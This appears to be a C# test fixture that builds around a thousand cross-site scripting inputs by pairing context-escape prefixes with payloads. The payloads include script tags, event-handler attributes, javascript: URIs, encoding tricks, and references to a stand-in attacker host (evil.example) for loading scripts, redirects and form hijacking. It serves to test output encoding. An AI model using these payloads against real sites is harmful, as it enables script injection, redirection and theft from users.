namespace PyResolve.Browser.Tests;

/// <summary>
/// A thousand texts that become markup, a script or an address where a page does not encode them: each way out of the places that texts
/// stand in, with each thing that would run then. All have at most 64 characters, as the shortest field that takes them, and no spaces
/// around, which forms take off.
/// </summary>
internal static class HostileTexts
{
    private static readonly string[] WaysOut =
    [
        "", "\"", "'", "\">", "'>", "\"'`>", ">", "-->", "]]>", "</title>", "</script>", "</style>", "</textarea>", "</select>",
        "</bdi>", "</pre>", "\\\"", "&quot;>", "&#34;>", "%22%3E", "${1}", "{{1}}", "@(1)", "\u00BB>", "\uFF02\uFF1E",
    ];

    private static readonly string[] Payloads =
    [
        "<script>alert(1)</script>", "<script src=//evil.example></script>", "<ScRiPt>alert(1)</sCrIpT>", "<script/x>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)//", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script>",
        "<svg><animate onbegin=alert(1)>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", " autofocus onfocus=alert(1) x=",
        " onmouseover=alert(1) ", " style=position:fixed;inset:0 ", "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)",
        "JaVaScRiPt:alert(1)", "java&#9;script:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x",
        "<iframe srcdoc='<script>alert(1)</script>'>", "<iframe src=javascript:alert(1)>", "<object data=data:text/html,x>",
        "<embed src=//evil.example>", "<base href=//evil.example>", "<meta http-equiv=refresh content='0;//evil.example'>",
        "<link rel=stylesheet href=//evil.example>", "<style>*{display:none}</style>", "<form action=//evil.example><button>",
        "<button formaction=//evil.example>", "<details open ontoggle=alert(1)>", "<template><script>alert(1)</script>",
        "<math><mtext><img src=x onerror=alert(1)>", "<noscript><p id='</noscript><img onerror=alert(1)>'>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "\uFF1Cscript\uFF1E", "+ADw-script+AD4-", "\\u003cscript\\u003e",
        "//evil.example",
    ];

    public static IReadOnlyList<string> All { get; } = [.. from payload in Payloads from way in WaysOut select (way + payload).Trim()];
}
